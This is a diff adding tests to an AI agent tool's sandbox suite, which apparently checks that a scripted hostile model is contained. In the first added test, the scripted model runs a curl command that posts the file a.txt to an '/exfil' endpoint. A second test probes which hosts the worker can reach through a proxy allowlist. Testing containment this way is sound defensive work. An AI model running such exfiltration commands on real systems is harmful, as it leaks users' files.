@@ -306,6 +306,21 @@ for (const mode of ["sandbox", "off"] as Mode[]) {
       }
     }, 120_000);
 
+    test("sends what it read to the network (the model server, any host)", async () => {
+      const a = await attempt(mode, () => [call("run_bash", { cmd: `curl -sS --max-time 5 -X POST --data-binary @a.txt ${server.url}/exfil; echo curl=$?` }), HONEST_EDIT, done()]);
+      try {
+        expect(a.out.status).toBe("complete");
+        const output = toolOutputs().find((o) => o.includes("curl="))!;
+        if (mode === "sandbox") {
+          // curl exit 7: no network in the sandbox, not even the loopback the model server is on.
+          expect(output).toContain("curl=7");
+          expectContained(a);
+        } else expect(output).toContain("curl=0");
+      } finally {
+        cleanup(a);
+      }
+    }, 60_000);
+
     test("sends tool arguments nested 40,000 deep: an error to the model, not a dead worker", async () => {
       const deep = `{"path": ${"[".repeat(40_000)}${"]".repeat(40_000)}}`;
       const a = await attempt(mode, () => [call("read_file", deep), HONEST_EDIT, done()]);
@@ -319,6 +334,25 @@ for (const mode of ["sandbox", "off"] as Mode[]) {
     }, 60_000);
   });
 }
+
+describe("[sandbox] network = [hosts]", () => {
+  test("the worker reaches the hosts listed, through dgov's proxy, and no other", async () => {
+    const port = new URL(server.url).port;
+    const r = llmRepo(server.url, TASKS, { files: { "a.txt": "a\n" }, extra: '[sandbox]\nnetwork = ["127.0.0.1"]' });
+    const probe = (host: string) => `curl -sS --max-time 5 -o /dev/null -w '${host}=%{http_code}\\n' http://${host}:${port}/v1/models`;
+    server.script({ conversations: [byTask("evil", [call("run_bash", { cmd: `${probe("127.0.0.1")}; ${probe("localhost")}` }), HONEST_EDIT, done()])] });
+    server.requests.length = 0;
+    try {
+      const run = await r.run(["--json"]);
+      expect(run.json<Attempt["out"]>().status).toBe("complete");
+      const output = toolOutputs().find((o) => o.includes("127.0.0.1="))!;
+      expect(output).not.toContain("127.0.0.1=000");
+      expect(output).toContain("localhost=403");
+    } finally {
+      r.remove();
+    }
+  }, 60_000);
+});
 
 describe("a hostile command agent (an external program as the worker), sandbox on", () => {
   test("prints a protocol line nested 40,000 deep, reads every environ, writes outside: the run goes on, contained", async () => {
